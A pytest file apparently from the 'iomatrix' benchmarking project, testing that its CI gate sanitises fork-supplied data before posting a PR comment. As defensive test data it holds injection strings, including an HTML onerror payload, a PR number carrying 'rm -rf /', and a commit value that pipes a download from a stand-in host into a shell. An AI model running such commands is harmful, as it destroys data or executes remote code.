"""The gate's PR comment is rendered by iomatrix from the comparison's JSON, never posted as a
gate run wrote it (issue 43: a fork's report.md went into the bot's comment verbatim). What the
run hands over is validated (a PR number of digits, comparison.json of bounded size and depth,
the Comparison record, plain names) and the Markdown is audited before it is posted; what fails
is replaced by iomatrix's own sentence. The workflow around it:
tests/project/test_consumer_workflows.py.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from iomatrix.analysis.compare import Comparison, compare_runs
from iomatrix.errors import IomatrixError
from iomatrix.report import gate_comment
from iomatrix.report.comparison import render_json, render_markdown
from support.builders import make_cell
from support.runs import failed, make_run, ok

SHA = "0123456789abcdef" * 2 + "01234567"
RUN_URL = "https://github.com/someone/repo/actions/runs/42"
MENTION, LINK, HTML = "@octocat", "[x](http://e.invalid/)", "<img src=x onerror=alert(1)>"
HOSTILE = f"{MENTION} {LINK} ![i](https://e.invalid/i.png) {HTML} www.e.invalid &#64;u #1"


def comparison(
    *, reason: str = "mkfs failed", cells: int = 2, session: str | None = None, commit: str = ""
) -> Comparison:
    """A real comparison: a regression, and a cell whose new side failed with `reason`; the
    sides of `session` when one is named, measured by iomatrix at `commit` when one is given."""
    pairs = [make_cell(fs=fs) for fs in ("ext4", "xfs", "btrfs", "f2fs")[:cells]]
    ids = (f"{session}-base", f"{session}-new") if session else ("base", "new")
    env = {"iomatrix_commit": commit} if commit else {}
    base = make_run(
        [ok(c, {"write_iops": [1000.0, 1010.0, 990.0, 1005.0, 995.0, 1002.0]}) for c in pairs],
        run_id=ids[0],
        **env,
    )
    new_results = [ok(pairs[0], {"write_iops": [700.0, 710.0, 690.0, 705.0, 695.0, 702.0]})]
    new_results += [failed(c, reason) for c in pairs[1:]]
    new = make_run(new_results, run_id=ids[1], **env)
    return compare_runs(base, new, metrics=["write_iops"])


def write_artifact(folder: Path, data: dict[str, Any] | str, pr: str = "7\n") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pr-number").write_text(pr)
    text = data if isinstance(data, str) else json.dumps(data)
    (folder / "comparison.json").write_text(text)
    return folder


def comment(folder: Path) -> str:
    out = folder.parent / "body.md"
    number = gate_comment.write_comment(
        folder, out, conclusion="failure", head_sha=SHA, run_url=RUN_URL
    )
    assert number == 7
    return out.read_text()


def assert_inert(text: str) -> None:
    below = text.split("\n", 2)[2]  # the header is iomatrix's, from GitHub's event
    assert gate_comment.audit(below) is None
    for live in (MENTION, "](http", "![i]", "http://e", "www.e", "&#64;"):
        assert live not in below, live
    assert re.search(r"(?<!\\)<img", below) is None


def test_a_gate_runs_comparison_is_rendered_by_iomatrix_with_its_verdict(tmp_path: Path) -> None:
    result = comparison(reason=HOSTILE)
    folder = write_artifact(tmp_path / "ab", json.loads(render_json(result)))
    # A report.md beside it is the fork's own words: never read.
    (folder / "report.md").write_text(f"**all good** {MENTION} {LINK} {HTML}\n")
    text = comment(folder)
    assert text.startswith(
        "<!-- iomatrix-ab-gate -->\n### iomatrix A/B gate: failure at 0123456789ab "
        f"([run]({RUN_URL}))\n"
    )
    assert text.split("\n", 2)[2].startswith("\n" + render_markdown(result))
    assert "### Regressions (1)" in text
    assert "all good" not in text.replace("mkfs", "")  # the reason shows, escaped...
    assert "octocat" in text  # ...with its mention broken
    assert_inert(text)


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda d: d["base"].update(run_id=f"x {LINK}"), "is not a comparison of this iomatrix"),
        (lambda d: d.update(comment=HOSTILE), "is not a comparison of this iomatrix"),
        (lambda d: d["rows"][0].update(metric=f"w {HTML}"), "rows[0].metric is not a plain name"),
        (
            lambda d: d["axes"][0].update(value="x\n```\n" + MENTION),
            "axes[0].value is not a plain name",
        ),
        (lambda d: d.update(rows="many"), "is not a comparison of this iomatrix"),
    ],
    ids=["run id", "unknown field", "metric", "chart label", "type"],
)
def test_a_crafted_comparison_is_refused_in_iomatrixs_own_words(
    tmp_path: Path, change: Any, said: str
) -> None:
    data = json.loads(render_json(comparison()))
    change(data)
    text = comment(write_artifact(tmp_path / "ab", data))
    assert said in text.replace("\\", "")  # iomatrix's sentence, its Markdown escaped
    assert "No comparison: comparison.json" in text
    assert_inert(text)


def test_an_extra_field_named_as_markdown_is_not_echoed(tmp_path: Path) -> None:
    data = json.loads(render_json(comparison()))
    data[f"{MENTION} {HTML}"] = 1
    text = comment(write_artifact(tmp_path / "ab", data))
    assert "is not a comparison of this iomatrix" in text
    assert "octocat" not in text
    assert "img" not in text
    assert_inert(text)


def test_a_huge_deep_or_linked_comparison_is_not_read(tmp_path: Path) -> None:
    big = tmp_path / "big"
    write_artifact(big, "[" + "0," * (17 << 20) + "0]")
    assert "comparison.json cannot be read: is " in comment(big)
    deep = write_artifact(tmp_path / "deep", "[" * 10_000 + "]" * 10_000)
    assert "comparison.json cannot be read: JSON nested deeper than 64 levels" in comment(deep)
    linked = write_artifact(tmp_path / "linked", "{}")
    (linked / "comparison.json").unlink()
    secret = tmp_path / "secret.json"
    secret.write_text(json.dumps({"secret": "the runner's"}))
    (linked / "comparison.json").symlink_to(secret)
    text = comment(linked)
    assert "comparison.json cannot be read: is a symbolic link" in text
    assert "the runner's" not in text


def test_a_comparison_too_large_for_a_comment_says_so_with_its_verdict(tmp_path: Path) -> None:
    # Every regression is listed (the details table is cut to fit, the change tables are not).
    result = comparison()
    many = result.model_copy(update={"rows": tuple(result.rows[0] for _ in range(3000))})
    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(many))))
    assert len(text) < gate_comment.COMMENT_LIMIT
    assert "**iomatrix compare: regressed: 3000 of 3000 gated metrics worse; exit 1" in text
    assert "it is too large for a comment" in text
    assert "<!-- iomatrix-verdict: regressed " in text
    assert_inert(text)


def test_no_comparison_is_said_so(tmp_path: Path) -> None:
    folder = tmp_path / "ab"
    folder.mkdir()
    (folder / "pr-number").write_text("7")
    assert "No comparison: the A/B session did not get as far as a comparison" in comment(folder)


@pytest.mark.parametrize("pr", ["", "7; rm -rf /", "-1", "1" * 17, "@octocat"])
def test_a_pr_number_that_is_not_one_means_no_comment(tmp_path: Path, pr: str) -> None:
    folder = write_artifact(tmp_path / "ab", json.loads(render_json(comparison())), pr=pr)
    with pytest.raises(gate_comment.CommentInputError, match="no PR number"):
        comment(folder)


def test_a_pr_number_planted_as_a_link_is_not_followed(tmp_path: Path) -> None:
    # /proc/self/environ would hold the workflow step's token, a digit of which could reach a URL.
    folder = write_artifact(tmp_path / "ab", "{}")
    (folder / "pr-number").unlink()
    (folder / "pr-number").symlink_to("/proc/self/environ")
    with pytest.raises(gate_comment.CommentInputError, match="is a symbolic link"):
        comment(folder)


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"conclusion": "failure ![x](y)"}, "not a workflow run's conclusion"),
        ({"head_sha": "HEAD"}, "is not a commit"),
        ({"run_url": "https://e.invalid/x) @octocat"}, "is not a workflow run's address"),
    ],
)
def test_the_header_takes_only_githubs_own_values(given: dict[str, str], said: str) -> None:
    values = {"conclusion": "success", "head_sha": SHA, "run_url": RUN_URL, **given}
    with pytest.raises(IomatrixError, match=said):
        gate_comment.header(**values)


@pytest.mark.parametrize(
    "markdown",
    [
        "hello @octocat",
        "see [x](y)",
        "![i](y)",
        "<img src=x>",
        "<details open>",
        "go to www.e.invalid",
        "http://e.invalid",
        "&#64;octocat",
        "fixes #12",
        "`code`",
        "```\nx`y\n```",
        "```mermaid\nunclosed",
    ],
)
def test_the_audit_finds_what_github_would_make_live(markdown: str) -> None:
    assert gate_comment.audit(markdown) is not None


def test_the_audit_passes_iomatrixs_own_markdown_and_escaped_text() -> None:
    for result in (comparison(reason=HOSTILE), comparison(cells=4)):
        assert gate_comment.audit(render_markdown(result)) is None
    assert gate_comment.audit("\\<img\\> @\u2060octocat \\#\u206012 ### Heading (3)") is None


def reproduce_block(text: str) -> list[str]:
    """The commands of the comment's reproduce section."""
    assert "**Reproduce it**: download this run's ab-session artifact" in text
    block = text.split("```sh\n", 1)[1].split("\n```", 1)[0]
    return block.split("\n")


def test_the_comment_carries_the_command_that_reproduces_its_session(tmp_path: Path) -> None:
    # Issue 47: a verdict in a PR comment could not be rerun by its reader.
    result = comparison(session="20261207-gate-ab12", commit=SHA)
    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
    assert reproduce_block(text) == [
        "gh run download 42 --repo someone/repo --name ab-session --dir ab-session",
        f"pipx install git+https://github.com/iomatrix/iomatrix@{SHA}",
        "iomatrix reproduce 20261207-gate-ab12 --results ab-session",
    ]
    assert_inert(text)


def test_the_reproduce_line_survives_a_comparison_too_large_to_show(tmp_path: Path) -> None:
    result = comparison(session="s1", commit=SHA)
    many = result.model_copy(update={"rows": tuple(result.rows[0] for _ in range(3000))})
    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(many))))
    assert "it is too large for a comment" in text
    assert reproduce_block(text)[-1] == "iomatrix reproduce s1 --results ab-session"


@pytest.mark.parametrize(
    "commit", ["[x](http://e.invalid/)", "0123`; curl e.invalid|sh", SHA.upper(), SHA[:39]]
)
def test_a_commit_that_is_not_one_is_not_pasted(tmp_path: Path, commit: str) -> None:
    # The commit is the fork run's text: only 40 lowercase hex digits become an install line.
    result = comparison(session="s1", commit=commit)
    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
    assert reproduce_block(text)[1:] == ["iomatrix reproduce s1 --results ab-session"]
    assert commit not in text
    assert_inert(text)


def test_two_runs_of_their_own_reproduce_the_new_one(tmp_path: Path) -> None:
    result = comparison(commit=SHA)
    text = comment(write_artifact(tmp_path / "ab", json.loads(render_json(result))))
    assert reproduce_block(text)[-1] == "iomatrix reproduce new --results ab-session"


@pytest.mark.parametrize(
    ("run_url", "line"),
    [
        (
            "https://ghe.example.com/org/storage/actions/runs/9/attempts/2",
            "gh run download 9 --repo ghe.example.com/org/storage --name ab-session "
            "--dir ab-session",
        ),
        ("https://github.com/o/r/actions/runs/9`; sh", None),
        (None, None),
    ],
)
def test_the_artifact_is_fetched_from_githubs_own_run_address_only(
    run_url: str | None, line: str | None
) -> None:
    section = gate_comment.reproduce_section(comparison(session="s1", commit=SHA), run_url)
    first = reproduce_block(section)[0]
    if line is None:
        assert first.startswith("pipx install ")
    else:
        assert first == line
